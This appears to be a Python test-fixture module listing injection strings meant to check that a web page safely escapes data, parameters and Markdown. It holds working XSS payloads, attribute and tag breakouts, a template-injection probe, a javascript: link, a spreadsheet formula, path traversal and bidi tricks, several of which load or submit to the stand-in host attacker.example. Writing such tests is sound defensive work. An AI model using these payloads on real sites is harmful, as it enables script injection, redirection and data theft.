"""Texts that try to act. Each stands wherever data, parameters, the card or Markdown enter a page."""

BEACON = "https://attacker.example"

PAYLOADS = {
    "script": f"<script src={BEACON}></script><script>window.acted = 1</script>",
    "script_end": "</script><script>window.acted = 1</script>",
    "style_end": f"</style><style>@import '{BEACON}'; main {{ display: none }}</style>",
    "image": f"<img src={BEACON}/x onerror='window.acted = 1'>",
    "attribute_double": '" onload="window.acted = 1" autofocus onfocus="window.acted = 1',
    "attribute_single": "' onmouseover='window.acted = 1' style='position:fixed",
    "closing": "</dd></dl></td></table></figure></section></main></body></html><h1>偽の見出し</h1>",
    "comment": "<!-- --!><script>window.acted = 1</script><!--",
    "textarea": "</title></textarea></noscript><svg onload=window.acted=1>",
    "template": "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}{# #}",
    "template_literal": "`${window.acted = 1}` \\u003cscript\\u003e",
    "separators": "改行\u2028段落\u2029'); window.acted = 1 //",
    "entities": "&lt;script&gt;window.acted=1&lt;/script&gt; &#60;b&#62; &amp;quot;",
    "markdown_link": f"[押す](javascript:window.acted=1) ![絵]({BEACON}/x.png) <{BEACON}>",
    "formula": '=HYPERLINK("https://attacker.example","押す")',
    "path": "../../../windows/system32/CON:<>|?*",
    "bidi": "\u202e\u2066逆向き\u200f",
    "frame": f"<iframe srcdoc='<script>parent.acted=1</script>'></iframe><object data={BEACON}></object>",
    "refresh": f"<meta http-equiv=refresh content='0;url={BEACON}'><base href={BEACON}><form action={BEACON}>",
    "svg": f"<svg><use href='{BEACON}#x'/><animate onbegin=window.acted=1 attributeName=x dur=1s></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=window.acted=1></style>",
    "long": "長" * 400,
}
